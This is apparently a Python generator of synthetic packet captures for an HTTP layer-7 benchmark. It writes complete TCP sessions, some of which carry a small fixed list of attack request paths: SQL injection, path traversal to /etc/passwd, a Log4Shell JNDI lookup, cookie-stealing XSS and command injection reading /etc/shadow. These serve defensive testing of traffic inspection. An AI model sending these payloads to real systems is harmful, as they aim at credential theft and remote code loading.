#!/usr/bin/python3
"""Writes a capture of complete HTTP/1.1 sessions for the L7 benchmark
(tools/bench/l7.sh): N sessions, each SYN / SYN-ACK / ACK / request /
ACK / response / ACK / FIN / FIN / ACK over IPv4 (198.18.0.0/15), every
session its own 5-tuple; a share of the requests carry attacks taken from
a small fixed list. Packets are built with struct, not scapy, so a few
hundred thousand take seconds.

usage: gen_http_pcap.py OUT.pcap [--sessions N] [--attack-share 0.1]
"""
import argparse
import random
import struct


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff


def frame(src, dst, sport, dport, seq, ack, flags, payload=b""):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0) + payload
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return b"\x02\x00\x00\x00\x00\x02\x02\x00\x00\x00\x00\x01\x08\x00" + ip + tcp


ATTACKS = [
    b"/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    b"/download?file=..%2F..%2F..%2Fetc%2Fpasswd",
    b"/?q=%24%7Bjndi%3Aldap%3A%2F%2F198.18.0.1%2Fx%7D",
    b"/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    b"/cgi-bin/status?cmd=%3Bcat%20%2Fetc%2Fshadow",
]
PAGES = [b"/", b"/index.html", b"/static/app.js", b"/api/v1/items?page=2&sort=name",
         b"/search?q=winter+boots&size=42", b"/account/orders/1234", b"/images/logo.png"]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("out")
    ap.add_argument("--sessions", type=int, default=20000)
    ap.add_argument("--attack-share", type=float, default=0.1)
    a = ap.parse_args()
    rnd = random.Random(7)
    body = b"x" * 600
    with open(a.out, "wb") as f:
        f.write(struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
        t = 1700000000.0

        def put(pkt):
            nonlocal t
            t += 0.00001
            sec = int(t)
            f.write(struct.pack("<IIII", sec, int((t - sec) * 1e6), len(pkt), len(pkt)))
            f.write(pkt)

        for i in range(a.sessions):
            cli = bytes([198, 18, (i >> 8) & 0xff, i & 0xff])
            srv = bytes([198, 19, 0, 1 + i % 200])
            sport = 1024 + (i * 7) % 60000
            path = rnd.choice(ATTACKS) if rnd.random() < a.attack_share else rnd.choice(PAGES)
            req = (b"GET " + path + b" HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)"
                   b"\r\nAccept: text/html,application/json\r\nCookie: session=abc123; theme=dark\r\n\r\n")
            resp = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 600\r\n\r\n" + body
            c, s = 1000, 5000
            put(frame(cli, srv, sport, 80, c, 0, 0x02))
            put(frame(srv, cli, 80, sport, s, c + 1, 0x12))
            put(frame(cli, srv, sport, 80, c + 1, s + 1, 0x10))
            put(frame(cli, srv, sport, 80, c + 1, s + 1, 0x18, req))
            put(frame(srv, cli, 80, sport, s + 1, c + 1 + len(req), 0x10))
            put(frame(srv, cli, 80, sport, s + 1, c + 1 + len(req), 0x18, resp))
            put(frame(cli, srv, sport, 80, c + 1 + len(req), s + 1 + len(resp), 0x10))
            put(frame(cli, srv, sport, 80, c + 1 + len(req), s + 1 + len(resp), 0x11))
            put(frame(srv, cli, 80, sport, s + 1 + len(resp), c + 2 + len(req), 0x11))
            put(frame(cli, srv, sport, 80, c + 2 + len(req), s + 2 + len(resp), 0x10))


if __name__ == "__main__":
    main()
